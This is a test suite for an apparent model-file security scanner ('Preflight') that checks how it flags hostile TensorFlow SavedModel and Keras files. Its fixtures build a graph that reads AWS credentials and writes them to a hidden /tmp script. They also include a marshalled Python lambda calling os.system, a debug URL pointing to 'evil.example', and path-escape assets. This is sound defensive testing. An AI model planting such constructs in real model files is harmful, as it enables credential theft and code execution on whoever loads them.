import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { kerasMetadataFormat, looksLikeKerasMetadata, looksLikeSavedModel, savedModelFormat } from '../../src/formats/tf-savedmodel.ts';
import { HEAD_BYTES, type Inspection } from '../../src/formats/types.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createNodeFileSource } from '../../src/io/node-source.ts';
import type { FileReport } from '../../src/report/types.ts';
import { RULES } from '../../src/rules/index.ts';
import { scanSource } from '../../src/scan.ts';
import { concat, lField, mField, vField } from '../builders/protobuf.ts';

// ---------------------------------------------------------------------------
// A SavedModel written by hand: only the fields Preflight reads (there is no TensorFlow on Debian).

const none = new Uint8Array(0);
const DT_STRING = 7;

interface NodeSpec {
  name: string;
  op: string;
  inputs?: string[];
  attrs?: Uint8Array[];
}

/** NodeDef.attr entry with an AttrValue payload. */
const attr = (key: string, value: Uint8Array) => mField(5, lField(1, key), lField(2, value));
const attrString = (key: string, value: string) => attr(key, lField(2, value));
const attrStringList = (key: string, values: string[]) => attr(key, mField(1, ...values.map((value) => lField(2, value))));

const tfNode = (spec: NodeSpec) => concat(lField(1, spec.name), lField(2, spec.op), ...(spec.inputs ?? []).map((input) => lField(3, input)), ...(spec.attrs ?? []));

/** A scalar string Const (AttrValue.tensor: dtype DT_STRING, one string_val). */
const stringConst = (name: string, value: string) => tfNode({ name, op: 'Const', attrs: [attr('value', mField(8, vField(1, DT_STRING), lField(8, value)))] });

const functionDef = (name: string, nodes: Uint8Array[]) => concat(mField(1, lField(1, name)), ...nodes.map((entry) => lField(3, entry)));

const graphDef = (nodes: Uint8Array[], functions: Uint8Array[] = []) =>
  concat(...nodes.map((entry) => lField(1, entry)), functions.length > 0 ? mField(2, ...functions.map((entry) => lField(1, entry))) : none, mField(4, vField(1, 1645)));

interface MetaGraphSpec {
  graph: Uint8Array;
  tags?: string[];
  tensorflowVersion?: string;
  signatures?: [string, string][];
  assets?: string[];
  objectGraph?: Uint8Array;
}

const metaGraph = (spec: MetaGraphSpec) =>
  concat(
    mField(1, ...(spec.tags ?? ['serve']).map((entry) => lField(4, entry)), lField(5, spec.tensorflowVersion ?? '2.15.0')),
    lField(2, spec.graph),
    ...(spec.signatures ?? []).map(([key, method]) => mField(5, lField(1, key), mField(2, lField(3, method)))),
    ...(spec.assets ?? []).map((filename) => mField(6, lField(2, filename))),
    spec.objectGraph ? lField(7, spec.objectGraph) : none,
  );

const savedModel = (...metaGraphs: Uint8Array[]) => concat(vField(1, 1), ...metaGraphs.map((entry) => lField(2, entry)));

/** marshal.dumps((lambda x: __import__('os').system('id')).__code__), base64 (CPython 3.11, /usr/bin/python3). */
const LAMBDA_CODE =
  '4wEAAAAAAAAAAAAAAAMAAAADAAAA80YAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAFMAKQNO2gJvc9oCaWQpAtoKX19pbXBvcnRfX9oGc3lzdGVtKQHaAXhzAQAAACD6CDxzdHJpbmc++gg8bGFtYmRhPnIIAAAAAwAAAHMcAAAAgACNapgU0Q4e1A4e1w4l0g4loGTRDivUDiuAAPMAAAAA';

/** tf.keras 2.x layer configs as keras_metadata.pb stores them. */
const lambdaConfig = { name: 'lambda', trainable: true, dtype: 'float32', function: [LAMBDA_CODE, null, null], function_type: 'lambda', module: '__main__', output_shape: null, output_shape_type: 'raw', output_shape_module: null, arguments: {} };
const denseConfig = { name: 'dense', trainable: true, dtype: 'float32', units: 2, activation: 'relu', use_bias: true };
const layerMetadata = (className: string, config: object) => JSON.stringify({ name: (config as { name: string }).name, class_name: className, config, trainable: true, expects_training_arg: false });
const modelMetadata = (layers: [string, object][]) =>
  JSON.stringify({ name: 'sequential', class_name: 'Sequential', config: { name: 'sequential', layers: layers.map(([class_name, config]) => ({ class_name, config })) }, is_graph_network: true });

const kerasObject = (nodeId: number, path: string, identifier: string, metadata: string) =>
  concat(mField(1, vField(1, 1)), vField(2, nodeId), lField(3, path), lField(4, identifier), lField(5, metadata));
const kerasMetadataFile = (...objects: Uint8Array[]) => concat(...objects.map((entry) => lField(1, entry)));

/** A Sequential model with a Lambda layer: the root object repeats the layer's config. */
const lambdaKerasMetadata = () =>
  kerasMetadataFile(
    kerasObject(0, 'root', '_tf_keras_sequential', modelMetadata([['Dense', denseConfig], ['Lambda', lambdaConfig]])),
    kerasObject(1, 'root.layer-0', '_tf_keras_layer', layerMetadata('Dense', denseConfig)),
    kerasObject(2, 'root.layer_with_weights-0', '_tf_keras_layer', layerMetadata('Lambda', lambdaConfig)),
  );

/** The graph of a model that reads a file, writes a file and calls Python (plus the usual checkpoint ops). */
function hostileGraph(): Uint8Array {
  return graphDef([
    tfNode({ name: 'x', op: 'Placeholder' }),
    stringConst('secret_path', '/home/user/.aws/credentials'),
    tfNode({ name: 'read', op: 'ReadFile', inputs: ['secret_path'] }),
    stringConst('drop_path', '/tmp/.x.sh'),
    tfNode({ name: 'write', op: 'WriteFile', inputs: ['drop_path:0', 'read', '^x'] }),
    tfNode({ name: 'py', op: 'PyFunc', inputs: ['x'], attrs: [attrString('token', 'pyfunc_0')] }),
    tfNode({ name: 'mm', op: 'MatMul', inputs: ['x', 'x'] }),
    tfNode({ name: 'save/SaveV2', op: 'SaveV2' }),
    tfNode({ name: 'save/RestoreV2', op: 'RestoreV2' }),
  ]);
}

function cleanGraph(): Uint8Array {
  return graphDef(
    [
      tfNode({ name: 'x', op: 'Placeholder' }),
      tfNode({ name: 'call', op: '__inference_call_77', inputs: ['x'] }),
      tfNode({ name: 'saver/SaveV2', op: 'SaveV2' }),
      tfNode({ name: 'saver/RestoreV2', op: 'RestoreV2' }),
    ],
    [functionDef('__inference_call_77', [tfNode({ name: 'mm', op: 'MatMul', inputs: ['x', 'x'] }), tfNode({ name: 'relu', op: 'Relu', inputs: ['mm'] })])],
  );
}

async function inspect(bytes: Uint8Array, format = savedModelFormat, name = 'saved_model.pb'): Promise<Inspection> {
  return format.inspect(createMemorySource(bytes, name), { head: bytes.subarray(0, HEAD_BYTES) });
}

const rules = (result: { findings: { rule: string }[] }) => result.findings.map((finding) => finding.rule).sort();
const findingOf = (result: Inspection | FileReport, rule: string) => result.findings.find((finding) => finding.rule === rule);

// ---------------------------------------------------------------------------

describe('SavedModel graphs: ops that touch the host', () => {
  it('ReadFile, WriteFile and PyFunc are flagged with node names and what they touch; checkpoint ops are information', async () => {
    const result = await inspect(savedModel(metaGraph({ graph: hostileGraph() })));
    expect(rules(result)).toEqual(['tensorflow.op.checkpoint-io', 'tensorflow.op.file-read', 'tensorflow.op.file-write', 'tensorflow.op.python']);
    expect(findingOf(result, 'tensorflow.op.file-read')).toMatchObject({
      severity: 'high',
      detail: '1 ReadFile node(s): "read" in meta_graphs[0] graph',
      evidence: '"secret_path"="/home/user/.aws/credentials"',
    });
    expect(findingOf(result, 'tensorflow.op.file-write')!.evidence).toBe('"drop_path:0"="/tmp/.x.sh"');
    expect(findingOf(result, 'tensorflow.op.python')!.evidence).toBe('token="pyfunc_0"');
    expect(findingOf(result, 'tensorflow.op.checkpoint-io')).toMatchObject({ severity: 'info' });
    expect(findingOf(result, 'tensorflow.op.checkpoint-io')!.detail).toBe('1 SaveV2 node(s): "save/SaveV2" in meta_graphs[0] graph; 1 RestoreV2 node(s): "save/RestoreV2" in meta_graphs[0] graph');
  });

  it('the finding offset is the flagged NodeDef in the file', async () => {
    const bytes = savedModel(metaGraph({ graph: hostileGraph() }));
    const finding = findingOf(await inspect(bytes), 'tensorflow.op.python')!;
    const nodeBytes = new TextDecoder('latin1').decode(bytes.subarray(finding.location.offset!, finding.location.offset! + 16));
    expect(nodeBytes).toContain('py');
    expect(nodeBytes).toContain('PyFunc');
  });

  it('ops inside the function library are seen, with the function named', async () => {
    const graph = graphDef([tfNode({ name: 'x', op: 'Placeholder' })], [functionDef('__inference_serve_12', [tfNode({ name: 'hidden', op: 'EagerPyFunc', attrs: [attrString('token', 'pyfunc_7')] })])]);
    const result = await inspect(savedModel(metaGraph({ graph })));
    expect(rules(result)).toEqual(['tensorflow.op.python']);
    expect(findingOf(result, 'tensorflow.op.python')!.detail).toBe('1 EagerPyFunc node(s): "hidden" in meta_graphs[0] function "__inference_serve_12"');
  });

  it.each([
    ['MatchingFiles', 'tensorflow.op.file-system'],
    ['ImmutableConst', 'tensorflow.op.file-read'],
    ['DebugIdentityV2', 'tensorflow.op.network'],
    ['RpcCall', 'tensorflow.op.network'],
    ['DatasetToTFRecord', 'tensorflow.op.file-write'],
    ['ShardedFilename', 'tensorflow.op.checkpoint-io'],
  ])('%s → %s', async (op, rule) => {
    const attrs = op === 'DebugIdentityV2' ? [attrStringList('debug_urls', ['grpc://evil.example:6064'])] : op === 'ImmutableConst' ? [attrString('memory_region_name', '/dev/mem')] : [];
    const result = await inspect(savedModel(metaGraph({ graph: graphDef([tfNode({ name: 'n', op, attrs })]) })));
    expect(rules(result)).toEqual([rule]);
    if (attrs.length > 0) expect(findingOf(result, rule)!.evidence).toMatch(/grpc:\/\/evil\.example:6064|\/dev\/mem/);
  });

  it('a clean graph: only the checkpoint information, verdict clean; ops listed with counts, library functions marked', async () => {
    const bytes = savedModel(metaGraph({ graph: cleanGraph(), signatures: [['serving_default', 'tensorflow/serving/predict']], tags: ['serve'] }));
    const report = await scanSource(createMemorySource(bytes, 'saved_model.pb'), { createSha256: createNodeSha256 });
    expect(report.format).toBe('savedmodel');
    expect(report.verdict).toBe('clean');
    expect(rules(report)).toEqual(['tensorflow.op.checkpoint-io']);
    expect(report.metadata).toMatchObject({
      savedModelSchemaVersion: 1,
      metaGraphs: [
        {
          tags: ['serve'],
          tensorflowVersion: '2.15.0',
          nodes: 4,
          functions: 1,
          signatures: [{ name: 'serving_default', method: 'tensorflow/serving/predict' }],
          assets: [],
          graphProducerVersion: 1645,
        },
      ],
    });
    expect(report.metadata.ops).toEqual(
      expect.arrayContaining([
        { op: '__inference_call_77', count: 1, function: true },
        { op: 'MatMul', count: 1 },
        { op: 'Relu', count: 1 },
      ]),
    );
  });

  it('a library function named like a flagged op is a function call, not the op', async () => {
    const graph = graphDef([tfNode({ name: 'call', op: 'ReadFile' })], [functionDef('ReadFile', [tfNode({ name: 'id', op: 'Identity' })])]);
    expect((await inspect(savedModel(metaGraph({ graph })))).findings).toEqual([]);
  });

  it.each([
    ['vocab.txt', []],
    ['sub/vocab.txt', []],
    ['../../../etc/passwd', ['tensorflow.asset.path-escape']],
    ['/etc/passwd', ['tensorflow.asset.path-escape']],
    ['C:\\Windows\\win.ini', ['tensorflow.asset.path-escape']],
  ])('asset %j → %j', async (filename, expected) => {
    const result = await inspect(savedModel(metaGraph({ graph: graphDef([]), assets: [filename] })));
    expect(rules(result)).toEqual(expected);
  });

  it('an empty SavedModel has no meta graph', async () => {
    expect(rules(await inspect(vField(1, 1)))).toEqual(['tensorflow.savedmodel.no-meta-graph']);
  });

  it('a truncated SavedModel: tensorflow.truncated, and the ops before the cut are still judged', async () => {
    const bytes = savedModel(metaGraph({ graph: hostileGraph() }));
    const cut = bytes.subarray(0, bytes.length - 40);
    const result = await inspect(cut);
    expect(rules(result)).toContain('tensorflow.truncated');
    expect(rules(result)).toEqual(expect.arrayContaining(['tensorflow.op.file-read', 'tensorflow.op.python']));
  });

  it('large string constants are referenced, not copied whole (evidence keeps the first bytes)', async () => {
    const long = `/data/${'a'.repeat(200_000)}`;
    const graph = graphDef([stringConst('p', long), tfNode({ name: 'read', op: 'ReadFile', inputs: ['p'] })]);
    const finding = findingOf(await inspect(savedModel(metaGraph({ graph }))), 'tensorflow.op.file-read')!;
    expect(finding.evidence!.length).toBeLessThan(300);
    expect(finding.evidence).toContain('/data/aaa');
  });
});

describe('Keras metadata', () => {
  it('keras_metadata.pb: a Lambda layer with marshalled bytecode is dangerous, reported once though the model repeats it', async () => {
    const result = await inspect(lambdaKerasMetadata(), kerasMetadataFormat, 'keras_metadata.pb');
    const lambdas = result.findings.filter((finding) => finding.rule === 'keras.lambda.bytecode');
    expect(lambdas).toHaveLength(1);
    expect(lambdas[0].severity).toBe('critical');
    expect(lambdas[0].detail).toContain('207 bytes of marshalled Python bytecode; it names "os", "__import__", "system"');
    expect(result.metadata).toMatchObject({
      objects: 3,
      identifiers: [
        { identifier: '_tf_keras_sequential', count: 1 },
        { identifier: '_tf_keras_layer', count: 2 },
      ],
      keras: { modelClass: 'Sequential', layers: 2, lambdaLayers: 1 },
    });
  });

  it('keras_metadata.pb without Lambda layers is clean', async () => {
    const bytes = kerasMetadataFile(
      kerasObject(0, 'root', '_tf_keras_sequential', modelMetadata([['Dense', denseConfig]])),
      kerasObject(1, 'root.layer-0', '_tf_keras_layer', layerMetadata('Dense', denseConfig)),
    );
    expect((await inspect(bytes, kerasMetadataFormat, 'keras_metadata.pb')).findings).toEqual([]);
  });

  it('metadata that is not JSON is reported, the other objects still walked', async () => {
    const bytes = kerasMetadataFile(kerasObject(0, 'root', '_tf_keras_model', '{"class_name": '), kerasObject(1, 'root.layer-0', '_tf_keras_layer', layerMetadata('Lambda', lambdaConfig)));
    expect(rules(await inspect(bytes, kerasMetadataFormat, 'keras_metadata.pb'))).toEqual(['keras.config.invalid', 'keras.lambda.bytecode']);
  });

  it('older SavedModels keep the same metadata in the object graph (SavedUserObject.metadata): walked too', async () => {
    const userObject = (identifier: string, metadata: string) => mField(1, mField(4, lField(1, identifier), lField(3, metadata)));
    const objectGraph = concat(userObject('_tf_keras_sequential', modelMetadata([['Lambda', lambdaConfig]])), mField(1, mField(7, vField(1, 1))));
    const result = await inspect(savedModel(metaGraph({ graph: graphDef([]), objectGraph })));
    expect(rules(result)).toEqual(['keras.lambda.bytecode']);
    expect(result.metadata.keras).toMatchObject({ modelClass: 'Sequential', lambdaLayers: 1 });
  });
});

describe('detection', () => {
  const hostile = savedModel(metaGraph({ graph: hostileGraph() }));

  it('a SavedModel head is claimed under a .pb name only (protobufs have no magic)', () => {
    expect(looksLikeSavedModel(hostile, 'saved_model.pb')).toBe(true);
    expect(looksLikeSavedModel(hostile, 'export/model.PB')).toBe(true);
    expect(looksLikeSavedModel(hostile, 'model.bin')).toBe(false);
  });

  it('without the schema version field (proto3 default) it is still a SavedModel', () => {
    expect(looksLikeSavedModel(lField(2, metaGraph({ graph: graphDef([]) })), 'saved_model.pb')).toBe(true);
  });

  it.each([
    ['a frozen GraphDef', graphDef([tfNode({ name: 'x', op: 'Placeholder' })])],
    ['an ONNX model', concat(vField(1, 8), lField(2, 'pytorch'), lField(3, '2.1'))],
    ['a schema version of 300', concat(vField(1, 300), lField(2, metaGraph({ graph: graphDef([]) })))],
    ['an empty file', new Uint8Array(0)],
    ['keras metadata', lambdaKerasMetadata()],
  ])('not a SavedModel: %s', (_label, bytes) => {
    expect(looksLikeSavedModel(bytes, 'saved_model.pb')).toBe(false);
  });

  it('keras metadata is told by content, whatever the name', () => {
    expect(looksLikeKerasMetadata(lambdaKerasMetadata())).toBe(true);
    expect(looksLikeKerasMetadata(hostile)).toBe(false);
    expect(looksLikeKerasMetadata(kerasMetadataFile(kerasObject(0, 'root', '_custom_thing', '{}')))).toBe(false);
  });
});

describe('end to end through scanSource and a file on disk', () => {
  const folder = mkdtempSync(join(tmpdir(), 'preflight-tf-'));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  async function scanFile(name: string, bytes: Uint8Array): Promise<FileReport> {
    const path = join(folder, name);
    writeFileSync(path, bytes);
    return scanSource(await createNodeFileSource(path, name), { createSha256: createNodeSha256 });
  }

  const table: { name: string; bytes: () => Uint8Array; format: string; verdict: string; findings: string[] }[] = [
    {
      name: 'saved_model.pb',
      bytes: () => savedModel(metaGraph({ graph: hostileGraph() })),
      format: 'savedmodel',
      verdict: 'suspicious',
      findings: ['tensorflow.op.checkpoint-io', 'tensorflow.op.file-read', 'tensorflow.op.file-write', 'tensorflow.op.python'],
    },
    { name: 'clean/saved_model.pb', bytes: () => savedModel(metaGraph({ graph: cleanGraph() })), format: 'savedmodel', verdict: 'clean', findings: ['tensorflow.op.checkpoint-io'] },
    { name: 'keras_metadata.pb', bytes: lambdaKerasMetadata, format: 'keras-metadata', verdict: 'dangerous', findings: ['keras.lambda.bytecode'] },
    { name: 'model.tflite', bytes: () => concat(new Uint8Array([0x1c, 0, 0, 0]), new TextEncoder().encode('TFL3'), new Uint8Array(24)), format: 'tflite', verdict: 'clean', findings: ['format.identified-only'] },
    {
      name: 'model.mlmodel',
      bytes: () => concat(vField(1, 4), mField(2, mField(1, lField(1, 'image'), lField(2, 'Input image'), mField(3, mField(4, vField(1, 224))))), mField(500, mField(1, lField(1, 'conv')))),
      format: 'coreml',
      verdict: 'clean',
      findings: ['format.identified-only'],
    },
    {
      name: 'Manifest.json',
      bytes: () =>
        new TextEncoder().encode(
          JSON.stringify({ fileFormatVersion: '1.0.0', itemInfoEntries: { A1: { author: 'com.apple.CoreML', name: 'model.mlmodel', path: 'com.apple.CoreML/model.mlmodel' } }, rootModelIdentifier: 'A1' }),
        ),
      format: 'coreml-package',
      verdict: 'clean',
      findings: ['format.identified-only'],
    },
  ];

  it.each(table)('$name → $format, $verdict', async (row) => {
    const name = row.name.replace('/', '-');
    const report = await scanFile(name, row.bytes());
    expect(report.format).toBe(row.format);
    expect(report.verdict).toBe(row.verdict);
    expect(rules(report)).toEqual(row.findings);
    expect(report.sha256).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('fuzz: mutated SavedModels and Keras metadata never throw', () => {
  it('1,000 mutations', async () => {
    const seeds: [Uint8Array, typeof savedModelFormat][] = [
      [savedModel(metaGraph({ graph: hostileGraph(), assets: ['v.txt'] })), savedModelFormat],
      [savedModel(metaGraph({ graph: cleanGraph() })), savedModelFormat],
      [lambdaKerasMetadata(), kerasMetadataFormat],
    ];
    const known = new Set(Object.keys(RULES));
    let state = 99;
    const pick = (limit: number) => {
      state = (Math.imul(state, 1103515245) + 12345) >>> 0;
      return state % limit;
    };
    for (let round = 0; round < 1000; round++) {
      const [seed, format] = seeds[round % seeds.length];
      const bytes = Uint8Array.from(seed);
      const cut = pick(3) === 0 ? pick(bytes.length) : bytes.length;
      for (let count = 1 + pick(3); count > 0; count--) bytes[pick(bytes.length)] = pick(256);
      const mutated = bytes.subarray(0, cut);
      const result = await inspect(mutated, format);
      for (const finding of result.findings) {
        expect(known.has(finding.rule)).toBe(true);
        expect(finding.rule).not.toBe('scan.internal-error');
        expect(finding.location.offset ?? 0).toBeLessThanOrEqual(mutated.length);
      }
      looksLikeSavedModel(mutated, 'saved_model.pb');
      looksLikeKerasMetadata(mutated);
    }
  });
});
